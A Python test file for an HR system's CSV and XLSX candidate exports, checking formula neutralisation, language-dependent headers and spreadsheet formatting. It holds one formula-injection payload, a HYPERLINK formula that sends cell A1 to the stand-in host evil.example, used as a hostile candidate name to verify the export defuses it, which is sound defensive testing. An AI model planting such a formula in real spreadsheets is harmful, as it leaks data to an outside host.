"""CSV and XLSX exports of HR's candidate list: Excel-friendly, and never a formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from app.accounts.models import Role
from app.assessments import exports
from app.assessments import service as assessment_service
from app.assessments.views import AssessmentRow
from app.config import Settings
from tests.assessments.staff_helpers import (
    levels,
    make_assessment,
    make_candidate,
    make_submitted,
    work_samples,
)
from tests.conftest import MakeUser

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def rows(db: Session, settings: Settings, make_user: MakeUser) -> list[AssessmentRow]:
    """A scored Chinese-named candidate, a hostile name still invited, another role."""
    hr, rater = make_user(Role.HR), make_user(Role.MEMBER)
    scored = make_submitted(db, hr, settings, candidate=make_candidate(db, hr, "张伟"))
    assessment_service.assign_rater(db, hr, scored.id, rater.id)
    for item_id in work_samples(db, scored):
        assessment_service.save_rating(
            db, rater, scored.id, item_id, levels(db, scored, item_id, -1)
        )
    make_assessment(db, hr, settings, candidate=make_candidate(db, hr, HOSTILE))
    make_assessment(db, hr, settings, role="lead", candidate=make_candidate(db, hr, "Other"))
    return assessment_service.list_assessments(db, hr, role_id="assistant")


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+8613800000000", "'+8613800000000"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("张伟", "张伟"),
        ("a=b", "a=b"),
    ],
)
def test_neutralise_quotes_only_cells_that_start_like_a_formula(value: str, expected: str) -> None:
    assert exports.neutralise(value) == expected


def test_csv_has_a_bom_the_list_columns_and_no_live_formula(rows: list[AssessmentRow]) -> None:
    content = exports.to_csv(rows, "zh")

    assert content.startswith(b"\xef\xbb\xbf")
    header, *body = read_csv(content)
    assert header[:5] == ["测评编号", "候选人", "邮箱", "岗位", "状态"]
    by_name = {line[1]: line for line in body}
    assert set(by_name) == {"张伟", "'" + HOSTILE}
    scored = by_name["张伟"]
    assert scored[3:5] == ["新媒体运营助理", "已评分"]
    assert scored[5] == "5.0"
    assert scored[6] == "1.0"
    assert scored[7:9] == ["强烈推荐", "最终"]
    invited = by_name["'" + HOSTILE]
    assert invited[4:9] == ["已邀请", "", "", "", ""]
    assert not any(cell.startswith(exports.FORMULA_STARTS) for line in body for cell in line)


def test_csv_headers_follow_the_language(rows: list[AssessmentRow]) -> None:
    header = read_csv(exports.to_csv(rows, "en"))[0]
    assert header[:3] == ["Assessment", "Candidate", "Email"]
    assert header[-1] == "Submitted (UTC)"


def test_xlsx_has_a_bold_frozen_header_widths_and_text_only_names(
    rows: list[AssessmentRow],
) -> None:
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(rows, "en"))).active
    assert sheet is not None

    header = [cell.value for cell in sheet[1]]
    assert header[:5] == ["Assessment", "Candidate", "Email", "Role", "Status"]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width >= len(HOSTILE)

    cells = [cell for line in sheet.iter_rows(min_row=2) for cell in line]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    names = {line[1].value: line for line in sheet.iter_rows(min_row=2)}
    assert set(names) == {"张伟", HOSTILE}
    assert names[HOSTILE][1].data_type == "s"
    scored = names["张伟"]
    assert (scored[3].value, scored[4].value) == ("New-media operations assistant", "Scored")
    assert (scored[5].value, scored[6].value, scored[7].value) == (5.0, 1.0, "Strong yes")
    assert scored[9].is_date
